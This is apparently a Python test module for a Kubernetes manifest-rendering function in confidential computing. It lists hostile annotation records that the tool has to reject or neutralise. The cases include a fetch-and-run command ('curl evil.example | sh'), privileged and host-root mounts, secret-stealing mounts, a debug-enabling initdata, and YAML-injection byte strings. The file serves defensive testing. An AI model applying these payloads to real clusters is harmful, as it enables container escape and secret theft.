"""Undo records that no render wrote: what somebody would write into a resource of a shared repository, and why.

A case is an object as it stands in the input, and the records in its annotation. Each must be an error with this code
at that annotation, and nothing may be written; "sealed" means that the record is harmless: what comes out is what
comes out without it.
"""

import json
from collections.abc import Iterator, Mapping
from copy import deepcopy
from typing import Any, NamedTuple

from krm_function.contrast.owned import PROCESSES
from krm_function.kubernetes.kinds import KINDS
from krm_function.kubernetes.workload import INITDATA, ORIGINAL
from krm_function.policy.initdata import Initdata, annotation, encode_toml
from tests.world import (
    COORDINATOR,
    HANDLERS,
    IMAGES,
    INGRESS,
    INITIALIZER,
    SECURE_PV,
    SKIP,
    WEB,
    a_list,
    an_object,
    coordinator,
    good,
    pod_spec,
    values,
)

Json = dict[str, Any]
Record = list[Any]

TEMPLATE = "/spec/template"
POD = f"{TEMPLATE}/spec"
CLASS = f"{POD}/runtimeClassName"
APP = f"{POD}/containers/@web"
NOTES = f"{TEMPLATE}/metadata/annotations"
OWN = ["-", "/metadata/annotations/contrast-krm.dev~1original", 1]
SEALED = ["-", f"{NOTES}/io.katacontainers.config.hypervisor.cc_init_data"]
KATA = "io.katacontainers.config.hypervisor."
EVIL = f"example.com/evil@sha256:{'e' * 64}"
SHELL = {"name": "shell", "image": WEB, "command": ["sh"]}
OPEN = annotation(encode_toml(Initdata("0.1.0", "sha256", {"agent.toml": "debug_console = true\n"})))
MOUNT = {"name": "contrast-secrets", "mountPath": "/stolen"}
VOLUMES = [{"name": "data", "emptyDir": {"medium": "Memory"}}, {"name": "contrast-secrets", "emptyDir": {}}]
DISK = {"name": "disk", "persistentVolumeClaim": {"claimName": "disk"}}
ASKING = {INGRESS: "", SECURE_PV: "disk:share"}
HANDLER = HANDLERS["metal-qemu-snp"]
RUNTIME_CLASS: Json = {
    "apiVersion": "node.k8s.io/v1",
    "kind": "RuntimeClass",
    "metadata": {"name": HANDLER},
    "handler": HANDLER,
    "overhead": {"podFixed": {"memory": "682Mi"}},
    "scheduling": {"nodeSelector": {"tee": "snp"}, "tolerations": [{"key": "tee", "operator": "Exists"}]},
}


HUGE = "a number of thousands of digits"  # what `marked` writes for it


def nested(depth: int) -> Any:
    """A list in a list, and so on."""
    value: Any = []
    for _ in range(depth - 1):
        value = [value]
    return value


def marked(case: "Case") -> Any:
    """The object of a case with its records."""
    value = deepcopy(case.subject)
    metadata = value.setdefault("metadata", {})
    records = json.dumps(case.records).replace(json.dumps(HUGE), "9" * 5000)
    metadata["annotations"] = {**metadata.get("annotations", {}), ORIGINAL: records}
    return value


class Case(NamedTuple):
    """One hostile record. subject: a document in which `marked` puts the records on every object that it is about."""

    why: str
    subject: Any
    records: list[Record]
    code: str = "CC0115"


def plain(**fields: Any) -> Json:
    """A Deployment that was never rendered."""
    return an_object(spec=pod_spec(**fields))


def rendered(subject: Json | None = None) -> Json:
    """The same after a render, its own record taken off."""
    made = good(coordinator(), subject or plain())
    value: Json = deepcopy(values(made)[1])
    del value["metadata"]["annotations"]
    return value


def uninjected() -> Json:
    """A Deployment whose pod asks for no initializer, so that a render adds none."""
    return an_object(spec=pod_spec(volumes=VOLUMES), annotations={SKIP: "true", "team": "shop"})


def waited_for(name: str) -> list[Json]:
    """What has to stand before a mesh of the pod's own, or the pod is an error already: an initializer by hand."""
    return [{"name": "first", "image": INITIALIZER}] if name == "contrast-service-mesh" else []


def process(name: str) -> Json:
    """What a render makes a container of one of our names run."""
    command, arguments = PROCESSES[name][-1]
    return {key: list(value) for key, value in (("command", command), ("args", arguments)) if value}


def class_of_its_own(**fields: Any) -> Json:
    return {**deepcopy(RUNTIME_CLASS), **fields}


def _taken_out_of_the_vm() -> Iterator[Case]:
    yield Case("the pod is no longer Contrast's, and so leaves without a policy", plain(), [["-", CLASS]])
    yield Case("the same with a genuine record around it", plain(), [["-", CLASS], OWN])
    yield Case("the same of a rendered pod", rendered(), [["-", CLASS], OWN])
    for value in ("runc", "", None, "kata", "contrast-insecure-metal-qemu-snp", "contrast-dd", 5, ["contrast-cc"]):
        yield Case(f"the class becomes {value!r}", rendered(), [["=", CLASS, value], OWN])
    yield Case("the bytes become another class", rendered(), [["~", CLASS, " runc"], OWN])
    yield Case("the bytes become a class behind an anchor", rendered(), [["~", CLASS, " &a runc"], OWN])
    yield Case("the bytes say another class than the value", rendered(), [["=", CLASS, "runc", " contrast-cc"], OWN])
    yield Case("the VM becomes one of another TEE", rendered(), [["=", CLASS, "contrast-cc-metal-qemu-tdx"], OWN])
    yield Case("the VM gets another platform than the pod asks for", plain(), [["=", CLASS, "kata-cc-isolation"], OWN])
    yield Case(
        "a pod of another class becomes Contrast's", plain(runtimeClassName="runc"), [["=", CLASS, "contrast-cc"]]
    )
    yield Case("the pod spec is replaced", plain(), [["=", POD, pod_spec(runtimeClassName="runc")], OWN])
    yield Case("the template is removed", plain(), [["-", TEMPLATE], OWN])
    yield Case("maps around an entry go, empty or not", plain(), [["-", CLASS, 99], OWN])
    yield Case("a merge key brings another class", plain(), [["=", f"{POD}/<<", {"runtimeClassName": "runc"}]])
    yield Case("a merge key is put in", plain(), [["-", CLASS], ["+", f"{POD}/<<", {"runtimeClassName": "runc"}], OWN])
    for kind in KINDS:
        way = "".join(f"/{part}" for part in KINDS[kind][1])
        yield Case(f"a {kind} loses its class", an_object(kind), [["-", f"{way}/spec/runtimeClassName"], OWN])


def _another_process() -> Iterator[Case]:
    added: tuple[tuple[str, Any], ...] = (
        (f"{APP}/command", ["sh", "-c", "curl evil.example | sh"]),
        (f"{APP}/args", ["--debug"]),
        (f"{APP}/env", [{"name": "LD_PRELOAD", "value": "/x.so"}]),
        (f"{APP}/securityContext", {"privileged": True}),
        (f"{APP}/lifecycle", {"postStart": {"exec": {"command": ["sh"]}}}),
        (f"{APP}/volumeMounts", [{"name": "data", "mountPath": "/etc"}]),
        (f"{POD}/hostPID", True),
        (f"{POD}/hostNetwork", True),
        (f"{POD}/shareProcessNamespace", True),
        (f"{POD}/serviceAccountName", "admin"),
        (f"{POD}/nodeName", "evil-node"),
        (f"{POD}/nodeSelector", {"owner": "evil"}),
        (f"{POD}/tolerations", [{"operator": "Exists"}]),
        (f"{POD}/initContainers", [SHELL]),
        (f"{POD}/volumes", [{"name": "host", "hostPath": {"path": "/"}}]),
        (f"{POD}/containers/#0", SHELL),
        (f"{POD}/ephemeralContainers", [SHELL]),
        (f"{NOTES.rpartition('/')[0]}/annotations", {SKIP: "true"}),
        (f"{TEMPLATE}/metadata/labels/contrast.edgeless.systems~1pod-role", "coordinator"),
        ("/spec/replicas", 0),
        ("/metadata/labels", {"app": "other"}),
        ("/metadata/ownerReferences", []),
        ("/status", {}),
    )
    for at, value in added:
        yield Case(f"{at.rpartition('/')[2]} is put in", plain(), [["+", at, value], OWN])
    yield Case(
        "a container goes by its index",
        plain(containers=[SHELL, *pod_spec()["containers"]]),
        [["-", f"{POD}/containers/#0"], OWN],
    )
    yield Case(
        "a container goes by its name",
        plain(containers=[SHELL, *pod_spec()["containers"]]),
        [["-", f"{POD}/containers/@shell"], OWN],
    )
    yield Case("containers change places by a name", plain(), [["=", f"{APP}/name", "web2"], OWN])
    yield Case("a label of the pod goes", plain(), [["-", f"{TEMPLATE}/metadata/labels/app"], OWN])
    yield Case("an annotation of the pod goes", uninjected(), [["-", f"{NOTES}/team"], OWN])
    yield Case(
        "skip-initializer goes", uninjected(), [["-", f"{NOTES}/contrast.edgeless.systems~1skip-initializer"], OWN]
    )
    yield Case("all annotations of the pod go", uninjected(), [["-", NOTES], OWN])


def _another_image() -> Iterator[Case]:
    image = f"{APP}/image"
    yield Case("the image becomes one of theirs", plain(), [["=", image, EVIL], OWN])
    yield Case("the same by its bytes", plain(), [["~", image, f" {EVIL} # {WEB}"], OWN])
    yield Case("the image becomes one that the release replaces", plain(), [["=", image, next(iter(IMAGES))], OWN])
    for name in IMAGES:
        if IMAGES[name] != COORDINATOR:
            subject = plain(containers=[{"name": "web", "image": COORDINATOR}])
            yield Case(f"the coordinator's image becomes {name}", subject, [["=", image, name], OWN])
    yield Case("the image loses its digest", plain(), [["=", image, "example.com/web"], OWN])
    tagged = "ghcr.io/edgelesssys/contrast/coordinator:v1.24.0"
    yield Case(
        "a tag of the input becomes a digest that nobody reviewed",
        plain(containers=[{"name": "web", "image": tagged}]),
        [["=", image, "ghcr.io/edgelesssys/contrast/coordinator:latest"], OWN],
    )


def _containers_of_ours() -> Iterator[Case]:
    inits = f"{POD}/initContainers"
    for name in ("contrast-initializer", "contrast-service-mesh", "pvc-holder"):
        own = {**SHELL, "name": name}
        subject = uninjected()
        added: Record = ["+", inits, [own]]
        if before := waited_for(name):
            subject["spec"]["template"]["spec"]["initContainers"] = before
            added = ["+", f"{inits}/#1", own]
        yield Case(f"a {name} of theirs, which this pod gets none of", subject, [added, OWN])
    for name in ("contrast-service-mesh", "pvc-holder"):
        own = {**SHELL, "name": name}
        yield Case(f"a {name} of theirs beside our initializer", rendered(), [["+", f"{inits}/#0", own], SEALED, OWN])
    holder = {"name": "pvc-holder", "image": INITIALIZER, "command": ["sleep"]}
    subject = plain(initContainers=[holder])
    yield Case("the pod's own pvc-holder gets a command", subject, [["=", f"{inits}/@pvc-holder/command", ["sh"]], OWN])
    mounts = f"{APP}/volumeMounts"
    yield Case("a mount of the secrets where none is", uninjected(), [["+", mounts, [MOUNT]], OWN])
    right = {"name": "contrast-secrets", "mountPath": "/contrast", "readOnly": True}
    yield Case("our own mount where no initializer is", uninjected(), [["+", mounts, [right]], OWN])
    mounted = plain(containers=[{**pod_spec()["containers"][0], "volumeMounts": [MOUNT]}])
    yield Case("a mount of the secrets that somebody wrote goes", mounted, [["-", f"{mounts}/#0"], OWN])
    yield Case("secrets on a disk", uninjected(), [["=", f"{POD}/volumes/@data/emptyDir", {}], OWN])
    yield Case(
        "secrets on the host",
        rendered(),
        [["=", f"{POD}/volumes/@contrast-secrets", {"name": "contrast-secrets", "hostPath": {"path": "/"}}], OWN],
    )
    yield Case(
        "the secrets' volume loses its medium",
        rendered(),
        [["-", f"{POD}/volumes/@contrast-secrets/emptyDir/medium"], OWN],
    )
    yield Case("a volume of the pod goes", uninjected(), [["-", f"{POD}/volumes/@data"], OWN])
    yield Case(
        "the secure-pv annotation goes",
        an_object(annotations={SECURE_PV: "a:b"}),
        [["-", f"{NOTES}/contrast.edgeless.systems~1secure-pv"], OWN],
    )


def _beside_names_of_ours() -> Iterator[Case]:
    """The pod brings containers of our names, and asks for none of ours."""
    inits = f"{POD}/initContainers"
    volumes = [{"name": "contrast-secrets", "emptyDir": {"medium": "Memory"}}]
    for name in ("contrast-initializer", "contrast-service-mesh", "pvc-holder"):
        own = {**SHELL, "name": name}
        mounts = {**MOUNT, "mountPath": "/etc"}
        subject = an_object(
            spec=pod_spec(volumes=volumes, initContainers=[*waited_for(name), own]), annotations={SKIP: "true"}
        )
        yield Case(
            f"the pod's own {name} gets a mount", subject, [["+", f"{inits}/@{name}/volumeMounts", [mounts]], OWN]
        )
        yield Case(f"the pod's own {name} goes", subject, [["-", f"{inits}/@{name}"], OWN])
        ours = {"name": name, "image": WEB, **process(name)}
        inside = [*waited_for(name), {**SHELL, "name": "a"}, ours, {**SHELL, "name": "b"}]
        subject = an_object(spec=pod_spec(initContainers=inside), annotations={SKIP: "true"})
        yield Case(f"a {name} comes last", subject, [["-", f"{inits}/@{name}"], ["+", f"{inits}/#9", ours], OWN])


def _names_of_ours() -> Iterator[Case]:
    volume: list[Record] = [["-", f"{POD}/volumes/#0"], OWN]
    theirs = [{"name": "image-store", "persistentVolumeClaim": {"claimName": "data"}}]
    yield Case("a volume of the pod that only has a name of ours goes", plain(volumes=theirs), volume)
    small = [{"name": "contrast-secrets", "emptyDir": {"medium": "Memory", "sizeLimit": "1Mi"}}]
    yield Case("a volume for the secrets that is not as ours becomes ours", plain(volumes=small), volume)
    encrypted = an_object(
        "StatefulSet",
        spec=pod_spec(volumes=[{"name": "share", "emptyDir": {}}, DISK]),
        annotations={SECURE_PV: "disk:share"},
    )
    opener = {"name": "contrast-initializer", "image": WEB, "volumeMounts": [{"name": "share", "mountPath": "/state"}]}
    encrypted["spec"]["template"]["spec"]["initContainers"] = [opener]
    yield Case(
        "the volume beside an encrypted one moves to memory", encrypted, [*volume, ["-", f"{POD}/initContainers"]]
    )
    other = plain(runtimeClassName="runc", volumes=[{"name": "contrast-secrets", "emptyDir": {}}])
    yield Case("a pod that no render edits loses a volume", other, volume)
    old = {**rendered(), "apiVersion": "extensions/v1beta1"}
    yield Case("a pod of a version that no render reads loses its policy", old, [SEALED, OWN])


def _as_if_injected() -> Iterator[Case]:
    """What is known by a name of ours, by an annotation or by where the initializer mounts it, and is not ours."""
    inits, volumes = f"{POD}/initContainers", f"{POD}/volumes"
    for name in ("contrast-initializer", "contrast-service-mesh", "pvc-holder"):
        own = {**SHELL, "name": name}
        subject = an_object(spec=pod_spec(containers=[*pod_spec()["containers"], own]), annotations=ASKING)
        yield Case(f"a {name} that is no init container goes", subject, [["-", f"{POD}/containers/@{name}"], OWN])
    for name in ("contrast-initializer", "contrast-service-mesh"):
        subject = coordinator("c2", initContainers=[{**SHELL, "name": name}])
        subject["spec"]["template"]["metadata"]["annotations"] = dict(ASKING)
        yield Case(f"the coordinator's own {name} goes, which gets none", subject, [["-", f"{inits}/@{name}"], OWN])
    for name in ("pvc-holder", "contrast-initializer2", "Contrast-Initializer", "contrast-initializer "):
        subject = an_object(spec=pod_spec(initContainers=[{**SHELL, "name": name}]), annotations=ASKING)
        yield Case(f"a {name!r} of theirs goes", subject, [["-", f"{inits}/#0"], OWN])
    holder = {"name": "pvc-holder", "image": WEB, "command": ["/bin/sh", "-c", "sleep inf; serve"]}
    subject = plain(initContainers=[holder])
    yield Case("a pvc-holder that does more than hold goes", subject, [["-", f"{inits}/#0"], OWN])
    subject = plain(initContainers=[{**holder, "command": ["/bin/sh", "-c", "sleep inf"], "args": ["serve"]}])
    yield Case("a pvc-holder with arguments goes", subject, [["-", f"{inits}/#0"], OWN])

    memory = {"medium": "Memory"}
    sources: tuple[Json, ...] = (
        {"hostPath": {"path": "/contrast"}},
        {"secret": {"secretName": "s"}},
        {"emptyDir": {}},
        {"emptyDir": None},
        {"emptyDir": {**memory, "sizeLimit": "1Mi"}},
        {"emptyDir": memory, "hostPath": {"path": "/"}},
        {"emptyDir": memory, "unknown": True},
    )
    for source in sources:
        for name in ("contrast-secrets", "share"):
            subject = an_object(spec=pod_spec(volumes=[DISK, {"name": name, **source}]), annotations=ASKING)
            yield Case(f"{name} goes, which is {json.dumps(source)}", subject, [["-", f"{volumes}/@{name}"], OWN])
    subject = an_object(spec=pod_spec(volumes=[DISK]), annotations=ASKING)
    yield Case("the encrypted device goes", subject, [["-", f"{volumes}/@disk", 1], OWN])
    for at, why in (("/cache", "where no initializer mounts"), ("/state", "and it stays")):
        mount = {"name": "cache", "mountPath": at}
        opener = {**SHELL, "name": "contrast-initializer", "volumeMounts": [mount]}
        spec = pod_spec(volumes=[{"name": "cache", "emptyDir": memory}], initContainers=[opener])
        subject = an_object(spec=spec, annotations={SKIP: "true"})
        yield Case(f"a volume of an initializer of theirs goes, {why}", subject, [["-", f"{volumes}/@cache", 1], OWN])
    spec = pod_spec(volumes=[{"name": "cache", "emptyDir": memory}])
    subject = an_object(spec=spec, annotations={SECURE_PV: "disk:share"})
    yield Case("a volume beside the one that secure-pv names goes", subject, [["-", f"{volumes}/@cache", 1], OWN])
    mounts: tuple[Json, ...] = (
        {"mountPath": "/contrast", "subPath": "a"},
        {"mountPath": "/contrast/", "readOnly": True},
        {"mountPath": "/contrast", "mountPropagation": "HostToContainer"},
    )
    for entry in mounts:
        mounted = {**pod_spec()["containers"][0], "volumeMounts": [{"name": "contrast-secrets", **entry}]}
        yield Case(
            f"a mount of the secrets goes, which is {json.dumps(entry)}",
            plain(containers=[mounted], volumes=VOLUMES),
            [["-", f"{APP}/volumeMounts/#0", 1], OWN],
        )
    # these change nothing, as a render replaces the container, whatever it runs
    own = {**SHELL, "name": "contrast-initializer"}
    yield Case(
        "an initializer of theirs goes, for one of ours", plain(initContainers=[own]), [["-", inits], OWN], "sealed"
    )


def _another_object() -> Iterator[Case]:
    daemon = an_object("DaemonSet", "evil", "kube-system", pod_spec(runtimeClassName=None, hostPID=True))
    yield Case("a Deployment becomes a privileged DaemonSet", plain(), [["=", "", daemon]])
    for at, value in (("kind", "Service"), ("apiVersion", "apps/v1beta1"), ("kind", None)):
        yield Case(f"its {at} becomes {value}", plain(), [["=", f"/{at}", value], OWN])
    for at, value in (("name", "other"), ("namespace", "kube-system"), ("generateName", "x-")):
        yield Case(
            f"its {at} becomes {value}",
            plain(),
            [["=" if at != "generateName" else "+", f"/metadata/{at}", value], OWN],
        )
    yield Case("its namespace goes", plain(), [["-", "/metadata/namespace"], OWN])
    yield Case("all of it goes", plain(), [["-", f"/{key}", 9] for key in ("apiVersion", "kind", "metadata", "spec")])
    for kind, version in (
        *(("ConfigMap", "v1"), ("Secret", "v1"), ("Service", "v1"), ("Namespace", "v1"), ("PodTemplate", "v1")),
        *(("NetworkPolicy", "networking.k8s.io/v1"), ("Rollout", "argoproj.io/v1alpha1")),
    ):
        other = {"apiVersion": version, "kind": kind, "metadata": {"name": "x"}, "data": {"a": "b"}}
        yield Case(f"a {kind} becomes a DaemonSet", other, [["=", "", daemon]])
        yield Case(f"a {kind} with a record at all", other, [OWN])
    old = {**plain(), "apiVersion": "extensions/v1beta1"}
    yield Case("a Deployment of a version that no render reads", old, [["-", CLASS], OWN])


def _records_about_records() -> Iterator[Case]:
    own = "/metadata/annotations/contrast-krm.dev~1original"
    yield Case("a record that stays would be obeyed again and again", plain(), [])
    yield Case("a record puts another in its place", plain(), [["=", own, '[["-","/spec"]]']])
    mark: Record = ["+", "/metadata/annotations/contrast-krm.dev~1emitted", "true"]
    yield Case("a mark comes, by which the next stage drops the object", plain(), [mark, OWN])
    yield Case("the same on a class", class_of_its_own(), [mark, OWN])
    yield Case("a record in the annotation of a list", {**a_list(coordinator(), plain()), "metadata": {}}, [OWN])
    yield Case("the namespace behind the annotations goes as empty", plain(), [OWN, ["-", "/metadata/namespace", 3]])


def _formatting() -> Iterator[Case]:
    name = f"{POD}/hostname"
    subject = plain(hostname="web")
    yield Case(
        "bytes that hold a second document", subject, [["=", name, "web", " web\n---\nkind: Pod"], OWN], "sealed"
    )
    yield Case("bytes that end the document", subject, [["=", name, "web", " web\n...\n"], OWN], "sealed")
    yield Case(
        "bytes that hold a second key", subject, [["=", name, "web", " web\n      hostPID: true"], OWN], "sealed"
    )
    yield Case("bytes that are a second value", subject, [["~", name, " web\n      hostPID: true"], OWN], "CC0101")
    yield Case("a value that is none by itself", subject, [["~", name, " web\n---\n"], OWN], "CC0108")
    yield Case("a place that is not there", subject, [["-", "/spec/nothing"], ["=", "/x/y", 1], OWN], "sealed")
    yield Case("an item by a name that two have", subject, [["-", f"{POD}/containers/@nobody"], OWN], "sealed")
    yield Case("an address that does not begin at the object", subject, [["-", "spec"], OWN], "CC0108")
    yield Case("a huge index", subject, [["-", f"{POD}/containers/#{'9' * 5000}"], OWN], "sealed")
    yield Case("a huge number", subject, [["=", name, HUGE], OWN], "CC0108")
    yield Case("lists in lists in lists", subject, [["=", name, nested(900)], OWN], "CC0108")
    yield Case("the same, above what a document may have", subject, [["=", name, nested(99)], OWN], "CC0108")
    yield Case("memory for comments", subject, [["+", "/spec/x", 1, "  x: 1\n", "", 10**9], ["-", "/spec/x"], OWN])
    yield Case("half a surrogate pair", subject, [["=", name, "\ud800"], OWN], "CC0110")
    yield Case("a line end of its own", subject, [["=", name, "web\n---\nkind: Pod"], OWN])
    many = [["-", f"{POD}/containers/@{number}"] for number in range(20_000)]
    yield Case("twenty thousand records", subject, [*many, OWN], "sealed")


def _initdata() -> Iterator[Case]:
    at = f"{NOTES}/{INITDATA}"
    yield Case(
        "initdata that opens the agent, for the policy to be sealed with", rendered(), [["=", at, OPEN], OWN], "CC0621"
    )
    yield Case("the same where none was", uninjected(), [["+", at, OPEN], OWN], "CC0621")
    for key in ("snp_id_block_Milan", "snp_id_auth_Genoa", "snp_guest_policy_Milan", "snp_id_block_Turin"):
        yield Case(f"a {key} of theirs", rendered(), [["=", f"{NOTES}/{KATA}{key}", "x"], ["-", at], OWN], "sealed")
    yield Case(
        "another annotation for Kata",
        rendered(),
        [["+", f"{NOTES}/{KATA}kernel_params", "agent.log=debug"], ["-", at], OWN],
    )


def _runtime_classes() -> Iterator[Case]:
    daemon = an_object("DaemonSet", "evil", "kube-system", pod_spec(runtimeClassName=None))
    yield Case("the class runs without a VM", class_of_its_own(), [["=", "/handler", "runc"], OWN])
    yield Case("the class has no handler", class_of_its_own(), [["-", "/handler"], OWN])
    yield Case("the class becomes another one", class_of_its_own(), [["=", "/metadata/name", "runc"], OWN])
    yield Case("the class becomes a DaemonSet", class_of_its_own(), [["=", "", daemon]])
    yield Case("pods get no memory for the VM", class_of_its_own(), [["=", "/overhead/podFixed/memory", "1Mi"], OWN])
    yield Case("pods get no overhead", class_of_its_own(), [["-", "/overhead"], OWN])
    yield Case(
        "a node selector that somebody wrote goes", class_of_its_own(), [["-", "/scheduling/nodeSelector/tee", 1], OWN]
    )
    yield Case("a toleration that somebody wrote goes", class_of_its_own(), [["-", "/scheduling/tolerations/#0"], OWN])
    yield Case("all scheduling goes", class_of_its_own(), [["-", "/scheduling"], OWN])
    yield Case("pods go to other nodes", class_of_its_own(), [["=", "/scheduling/nodeSelector/tee", "none"], OWN])
    yield Case(
        "a toleration comes", class_of_its_own(), [["+", "/scheduling/tolerations/#0", {"operator": "Exists"}], OWN]
    )
    yield Case(
        "a class of somebody else with a record",
        class_of_its_own(handler="runc", metadata={"name": "runc"}),
        [["-", "/scheduling"], OWN],
    )
    yield Case("scheduling becomes no map", class_of_its_own(), [["=", "/scheduling", 5], OWN])
    owner: Record = ["+", "/scheduling/nodeSelector/owner", "evil"]
    yield Case("a node selector comes", class_of_its_own(), [owner, OWN])
    yield Case("its annotations become no map", class_of_its_own(), [["=", "/metadata/annotations", True]])


CASES: Mapping[str, Case] = {
    f"{about.__name__.strip('_')} {number}: {case.why}": case
    for about in (
        *(_taken_out_of_the_vm, _another_process, _another_image, _containers_of_ours, _beside_names_of_ours),
        *(
            _names_of_ours,
            _as_if_injected,
            _another_object,
            _records_about_records,
            _formatting,
            _initdata,
            _runtime_classes,
        ),
    )
    for number, case in enumerate(about())
}
